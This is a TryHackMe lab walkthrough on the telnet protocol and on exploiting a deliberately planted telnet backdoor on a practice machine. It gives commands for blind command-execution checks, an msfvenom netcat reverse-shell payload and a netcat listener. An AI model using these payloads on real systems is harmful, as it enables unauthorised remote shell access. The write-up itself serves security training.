THM – Network Services – Telnet – Part 5

Understanding telnet

What is telnet?

Telnet is an application protocol which allows you, with the use of telnet client, to connect to and execute commands on a remote machine that’s hosting a telnet server.

The telnet client will establish a connection with the server. The client will then become a virtual terminal – allow you to interact with the remote host.


Telnet sends all messages in clear text and has no specific security mechanisms. Thus, in many applications and services, Telnet has been replaced by SSH in most implementations.

How does Telnet work?The user connects to the server by usingthe Telnet protocol, which means entering “telnet” into a command prompt. The user then executes commands on the server by using specific Telnet commands in the Telnet prompt. You can connect to a telnet server with the follow syntax:

Telnet IP PORT

The lack of what, means that all Telnet communication is in plaintext? Encryption

Enumerating Telnet

Use Nmap to scan for open ports and services on the target machine.

How many ports open on the machine? One

What port is that? 8012 Telnet is assigned to a non-standard port.Based on the title returned to us, what do we think this port could be used for? A backdoor (SKIDY’s BACKDOOR)

Who could it belong to? Skidy

Exploiting telnet

Telnet, being a protocol, is in and of itself insecure for its lack of encryption. It sends all communication over plaintext and has poor access control. There are CVE’s for Telnet client and server systems. A CVE, short for common vulnerability and exposures, is a list of public disclosed computer security flaws.

You are far more likely to find a misconfiguration in how telnet has been configured or is operating that will allow us to exploit it.Method breakdown

From our enumeration we know:

  • There is a poorly hidden telnet service running on the machine.
  • The service itself is marked “backdoor.”
  • We have possible username of “SKDY” implicated.

Connecting to telnet

Connect to telnet using the command telnet IP PORT

What is a reverse shell?

A “shell” can simply be described as a piece of code or program which can be used to gain code or command execution on a device.

A reverse shell is a type of shell in which the target machine communcates back to the attacking machine.

The attacking machine has a listening port, on which it receives the connection, resulting in code or command execution being achieved.

Connect to this telnet port. What welcome message do we receive? SKIDY’s backdoor

When executing commands, do we get a return on any input into the telnet session? No

Let’s check to see if what we’re typing is being executed as a system command.

Start a tcpdump listener on your local machine.

sudo tcpdump ip proto \\icmp -i eth0

Use command ping local THM ip –c 1. Do we receive any pings? YES

This means we’re able to execute system commands AND that we are able to reach our local machine.

We’re going to generate a reverse shell payload using msfvenom. This will generate and encode netcat reverse shell for us. Syntax:

msfvenom -p cmd/unix/reverse_netcat lhost=local_IP lport=4444 R

-p = payload

lhost = our local host ip

lport = the port to listen on (this is the port on your machine)R= export the payload in raw format

Payload is generated. Now start a netcat listener on our local machine. We use this command:

nc -lvp 4444

Now that’srunning, copy and pasteour msfvenom payload into the telnet session and run it as acommand.

Catch the flag!

Similar Posts